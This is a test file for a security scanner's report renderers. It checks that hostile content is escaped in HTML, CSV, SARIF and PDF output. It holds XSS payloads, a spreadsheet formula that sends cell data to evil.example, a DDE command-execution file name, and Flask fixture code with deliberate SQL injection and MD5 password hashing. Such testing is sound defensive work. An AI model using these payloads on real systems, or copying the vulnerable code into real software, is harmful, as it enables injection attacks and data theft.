// A hostile repository: HTML, script and spreadsheet-formula payloads in its file names, code,
// skipped files, project name, triage reasons and attestation evidence. Scanned and recorded for
// real, then reported in every format: everywhere the payloads must be inert text.
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { allRules } from '../analyzer/rules/index.js';
import { scanProject } from '../analyzer/scan.js';
import { buildEvidencePack, buildReportModel, renderCsv, renderHtml, renderJson, renderPdf, renderSarifLog, verifyEvidencePack, type ReportModel } from '../report/index.js';
import { chromiumPdfRenderer } from '../report/chromium/chromium-pdf.js';
import { findChromium } from '../report/chromium/find-chromium.js';
import { listFindings, recordAttestation, recordTriage } from '../store/index.js';
import { sarifErrors } from './helpers/sarif-validator.js';
import { parseCsv } from './report-csv-reader.js';
import { ARTIFACTS, launchChromium, recordInNewDb, type ReportDb } from './report-helpers.js';

const PWN = 'window.__pwned=1';
const IMG = `<img src=x onerror=${PWN}>`;
const SCRIPT = `<script>${PWN}</script>`;
const FORMULA = `=HYPERLINK("http://evil.example/?leak="&A1,"click")`;
const HOSTILE_FILE = `views_${IMG}.py`;
const FORMULA_FILE = `=cmd|'calc'!A0+@SUM(1).py`;

const VIEWS = `from flask import Flask, request
import sqlite3

app = Flask(__name__)

@app.route("/search")
def search():
    q = request.args.get("q")
    cur = sqlite3.connect("shop.db").cursor()
    cur.execute("SELECT * FROM t WHERE name = '" + q + "' -- ${IMG} ${SCRIPT}")
    return "ok"
`;

const FORMULA_CODE = `import hashlib
from flask import request

def legacy(password):
    return hashlib.md5(password.encode()).hexdigest()  # ${FORMULA}
`;

let root = '';
let r: ReportDb;
let model: ReportModel;

beforeAll(async () => {
  root = mkdtempSync(join(tmpdir(), 'assay-hostile-'));
  mkdirSync(join(root, 'app'));
  writeFileSync(join(root, 'app', HOSTILE_FILE), VIEWS);
  writeFileSync(join(root, FORMULA_FILE), FORMULA_CODE);
  writeFileSync(join(root, 'app', `bin_<svg onload=${PWN}>.py`), Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 0, 0xff]));
  const result = await scanProject(root, { workers: 0 });
  r = recordInNewDb(result, `${SCRIPT}${FORMULA}`);
  const rows = listFindings(r.db, r.projectId, { limit: 100 }).rows;
  expect(rows.length).toBeGreaterThan(0);
  recordTriage(r.db, { findingId: rows[rows.length - 1]!.id, status: 'false_positive', reason: `</td>${SCRIPT} ${FORMULA}`, actor: `-1+2 ${IMG}` });
  recordAttestation(r.db, { projectId: r.projectId, requirementId: 'V6.1.1', status: 'pass', evidence: `<iframe src="javascript:${PWN}"></iframe> @SUM(1)`, links: [`https://x.example/"><img src=x onerror=${PWN}>`], actor: '+reviewer' });
  model = buildReportModel(r.db, { projectId: r.projectId, rules: allRules, reviewer: `=1+2 ${IMG}` });
  mkdirSync(ARTIFACTS, { recursive: true });
}, 300_000);
afterAll(() => {
  r?.close();
  rmSync(root, { recursive: true, force: true });
});

describe('hostile repository content', () => {
  it('reaches the report (so the checks below are not vacuous)', () => {
    expect(model.findings.some((f) => f.path === `app/${HOSTILE_FILE}` && f.snippet.includes(IMG))).toBe(true);
    expect(model.findings.some((f) => f.path === FORMULA_FILE)).toBe(true);
    expect(model.skipped.some((s) => s.path.includes('<svg'))).toBe(true);
  });

  it('HTML: shown as text, nothing runs even with the CSP switched off', async () => {
    const html = renderHtml(model);
    writeFileSync(join(ARTIFACTS, 'hostile-report.html'), html);
    expect(html).not.toContain(IMG);
    expect(html).not.toContain(SCRIPT);
    const browser = await launchChromium();
    try {
      const page = await browser.newPage({ bypassCSP: true });
      let dialogs = 0;
      page.on('dialog', (d) => {
        dialogs++;
        void d.dismiss();
      });
      await page.setContent(html, { waitUntil: 'load' });
      await page.evaluate(() => document.querySelectorAll('*').forEach((el) => el.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }))));
      expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
      expect(dialogs).toBe(0);
      expect(await page.locator('script, iframe, img, object, embed, [onerror], [onload], [onmouseover]').count()).toBe(0);
      const text = (await page.locator('body').textContent()) ?? '';
      for (const payload of [IMG, SCRIPT, FORMULA, `app/${HOSTILE_FILE}`, '<svg onload=']) expect(text).toContain(payload);
      await page.screenshot({ path: join(ARTIFACTS, 'hostile-html.png'), fullPage: false });
    } finally {
      await browser.close();
    }
  });

  it('CSV: no cell can start a formula', () => {
    const csv = renderCsv(model);
    writeFileSync(join(ARTIFACTS, 'hostile-findings.csv'), csv);
    const rows = parseCsv(csv);
    const cells = rows.flat();
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells).toContain(`'${FORMULA_FILE}`);
    expect(cells.some((c) => c.startsWith(`'-1+2`))).toBe(true);
    expect(cells.some((c) => c.startsWith(`'</td>`) || c.startsWith('</td>'))).toBe(true);
  });

  it('JSON and SARIF: the payloads are data, escaped for any HTML context, and SARIF stays valid', () => {
    const json = renderJson(model);
    expect(json).not.toMatch(/[<>]/);
    expect((JSON.parse(json) as ReportModel).project.name).toBe(`${SCRIPT}${FORMULA}`);
    const log = renderSarifLog(model);
    expect(sarifErrors(log)).toEqual([]);
    const uris = log.runs[0]!.results.map((x) => x.locations![0]!.physicalLocation!.artifactLocation!.uri!);
    expect(uris).toContain(`app/${encodeURIComponent(HOSTILE_FILE)}`);
    for (const u of uris) expect(u).not.toMatch(/[<>"\s]/);
  });

  it.skipIf(spawnSync('pdftotext', ['-v']).error !== undefined)('PDF: header, footer and body print the payloads as text', async () => {
    const pdf = await renderPdf(model, chromiumPdfRenderer(findChromium()));
    const file = join(ARTIFACTS, 'hostile-report.pdf');
    writeFileSync(file, pdf);
    const text = execFileSync('pdftotext', ['-layout', file, '-'], { encoding: 'utf8' });
    const firstPage = execFileSync('pdftotext', ['-layout', '-f', '2', '-l', '2', file, '-'], { encoding: 'utf8' });
    // The running header carries the project name: had it been markup, the script tag would be invisible.
    expect(firstPage).toContain(SCRIPT);
    expect(text).toContain(IMG);
  }, 300_000);

  it('evidence pack: the hostile name is only data in the manifest, and the pack verifies', async () => {
    const result = verifyEvidencePack(await buildEvidencePack(model, ['html', 'csv', 'json', 'sarif']));
    expect(result.ok).toBe(true);
    expect(result.manifest?.project.name).toBe(`${SCRIPT}${FORMULA}`);
  });
});
